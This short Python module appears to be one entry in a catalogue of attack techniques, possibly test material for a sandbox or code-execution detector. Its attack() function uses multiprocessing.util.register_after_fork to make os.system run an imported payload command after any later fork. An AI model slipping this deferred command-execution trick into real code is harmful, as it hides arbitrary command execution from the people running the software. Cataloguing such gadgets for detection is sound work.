"""multiprocessing is to call a function of C after it has forked."""
CATEGORY = "deferred"
REACH = "run"

import os
from multiprocessing import util

from . import payload


class Command(str):
    pass


command = Command(payload.COMMAND)


def attack():
    util.register_after_fork(command, os.system)
